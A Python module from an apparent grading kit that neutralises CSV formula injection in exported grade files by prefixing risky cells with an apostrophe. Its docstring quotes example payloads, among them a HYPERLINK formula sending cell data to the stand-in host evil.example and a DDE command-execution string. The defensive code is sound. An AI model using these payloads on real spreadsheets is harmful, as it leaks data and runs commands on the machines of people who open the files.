"""Every CSV file the kit writes goes through `write_csv`: cells a spreadsheet would run are neutralised.

A student chooses the name of their file or folder, and an LMS copies the name they typed into their
profile: `=HYPERLINK("http://evil.example/?"&A1, "Bob")`, `@SUM(A1:A9)`, `+cmd|' /C calc'!A0`. When the
instructor opens grades.csv, handins.csv or an export in a spreadsheet, a cell that begins with `=`,
`+`, `-` or `@` (or with a tab or a carriage return before one of them) is read as a formula and
run. So every text cell that begins with one of these characters is written with a leading
apostrophe, which a spreadsheet reads as "text" (OWASP, "CSV Injection"). The same holds for each
part of a cell after a `;` or a tab: a file written with commas is often opened with `;` as the
separator (the European setting of Excel and LibreOffice), where `Martin;=HYPERLINK(...)` would
become two cells.

Numbers (`-2.5`, `1e3`) are written as they are: a spreadsheet reads them as numbers, never runs them.
`restore` undoes the neutralisation for the kit's own readers (export reads handins.csv back).
"""
from __future__ import annotations

import csv
import math
import re

from .files import atomic_open

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SEPARATORS = re.compile(r"([;\t])")  # a spreadsheet may split a cell there (the `,` is quoted by csv)
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def neutral(value):
    """`value` as a cell no spreadsheet runs: None is '', numbers as str(), text that would start a
    formula (in the cell, or after a `;` or a tab within it) gets a leading apostrophe."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, (int, float)):
        return repr(value) if isinstance(value, float) and not math.isfinite(value) else str(value)
    text = str(value)
    if _NUMBER.fullmatch(text):
        return text
    parts = SEPARATORS.split(text)  # [text, separator, text, separator, ...]
    for i in range(2, len(parts), 2):
        if _starts_formula(parts[i]):
            parts[i] = "'" + parts[i]
    text = "".join(parts)
    return "'" + text if _starts_formula(text) else text  # the cell itself (a leading tab or CR too)


def _starts_formula(text):
    """Whether a spreadsheet would run `text` (spaces first do not stop every spreadsheet: Canvas's
    own exporter also looks past them), or `text` is an apostrophe before such a text (so that
    `restore` gives back exactly what `neutral` was given)."""
    if text.lstrip(" ")[:1] in FORMULA_STARTS or text[:1] in FORMULA_STARTS:
        return True
    return text[:1] == "'" and _starts_formula(text[1:])


def restore(text):
    """The text `neutral` was given (for a cell the kit wrote and reads back)."""
    if "'" not in text:
        return text
    if text[:1] == "'" and _starts_formula(text[1:]):
        text = text[1:]
    parts = SEPARATORS.split(text)
    for i in range(2, len(parts), 2):
        if parts[i][:1] == "'" and _starts_formula(parts[i][1:]):
            parts[i] = parts[i][1:]
    return "".join(parts)


def is_safe(cell):
    """True when no spreadsheet would run `cell` (what `neutral` guarantees; the tests check files)."""
    if _NUMBER.fullmatch(cell):
        return True
    if cell[:1] in FORMULA_STARTS or cell.lstrip(" ")[:1] in FORMULA_STARTS:
        return False
    parts = SEPARATORS.split(cell)
    return not any(parts[i].lstrip(" ")[:1] in FORMULA_STARTS for i in range(2, len(parts), 2))


def write_csv(path, header, rows):
    """Write `header` and `rows` (lists of cells) to `path` whole (atomically), UTF-8 without a
    byte-order mark, every cell through `neutral`, lines ended by CRLF (RFC 4180, read by every LMS's
    importer). CRLF also makes the csv module quote any cell holding a CR or a LF: with "\n" alone it
    leaves a bare CR unquoted, and a spreadsheet starts a new row (and a new cell) there. Returns path."""
    with atomic_open(path, newline="") as f:
        writer = csv.writer(f, lineterminator="\r\n")
        writer.writerow([neutral(c) for c in header])
        writer.writerows([neutral(c) for c in row] for row in rows)
    return path
